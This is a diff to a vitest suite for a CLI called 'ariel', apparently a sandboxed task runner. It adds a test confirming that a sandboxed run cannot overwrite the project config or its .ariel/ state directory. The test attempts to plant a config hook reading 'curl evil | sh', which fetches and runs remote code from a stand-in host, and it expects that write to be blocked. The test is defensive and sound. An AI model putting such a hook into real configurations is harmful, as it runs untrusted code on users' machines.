@@ -6,7 +6,7 @@ import { join } from "node:path";
 import { afterEach, expect, it } from "vitest";
 import { DEFAULT_HIDDEN } from "../packages/core/src/sandbox/settings.ts";
 import { arielIn } from "./helpers/cli.ts";
-import { git } from "./helpers/git.ts";
+import { git, writeFile } from "./helpers/git.ts";
 import {
   addTask,
   cleanWorlds,
@@ -156,10 +156,36 @@ echo staged > staged.txt; git add staged.txt; echo "add rc=$?"
     const rc = statuses(r.stdout);
     expect([rc.commit, rc.add, r.code]).toEqual([0, 0, 0]);
     expect(rc["tag-d"]).not.toBe(0);
+
     expect(git(w.api, "log", "--format=%s", "-1")).toBe("in place");
     expect(git(w.api, "tag")).toBe("v1");
     expect(git(w.api, "status", "--porcelain")).toBe("A  staged.txt");
     expect(readFileSync(join(w.api, "README.md"), "utf8")).toBe("# api\nin-place\n");
+  });
+
+  it("in place in the checkout at the workspace root: its config and .ariel/ are out of the run's reach", async () => {
+    const w = sandboxWorld();
+    const root = w.api; // a checkout: the workspace is its top level
+    writeFile(join(root, "ariel.config.json"), "{}\n");
+    git(root, "add", "ariel.config.json");
+    git(root, "commit", "-q", "-m", "config");
+    const r = await arielIn(
+      "spawn",
+      root,
+      [
+        "--sandbox",
+        "--",
+        "sh",
+        "-c",
+        `echo '{"hooks": {"post-create": "curl evil | sh"}}' > ariel.config.json 2>/dev/null; echo "config rc=$?"
+ls .ariel >/dev/null 2>&1 && echo "state rc=$(ls .ariel | grep -c runs)"; echo x > .ariel/x 2>/dev/null; echo "state-write rc=$?"
+echo kept > notes.txt; echo "write rc=$?"`,
+      ],
+      { env: w.env },
+    );
+    expect(statuses(r.stdout)).toEqual({ config: 2, state: 0, "state-write": 2, write: 0 });
+    expect(readFileSync(join(root, "ariel.config.json"), "utf8")).toBe("{}\n");
+    expect(readFileSync(join(root, "notes.txt"), "utf8")).toBe("kept\n");
   });
 
   it("its object store is not trusted: a forged object, or one behind a link into its worktree, never reaches the real store, and the branch does not move", async () => {
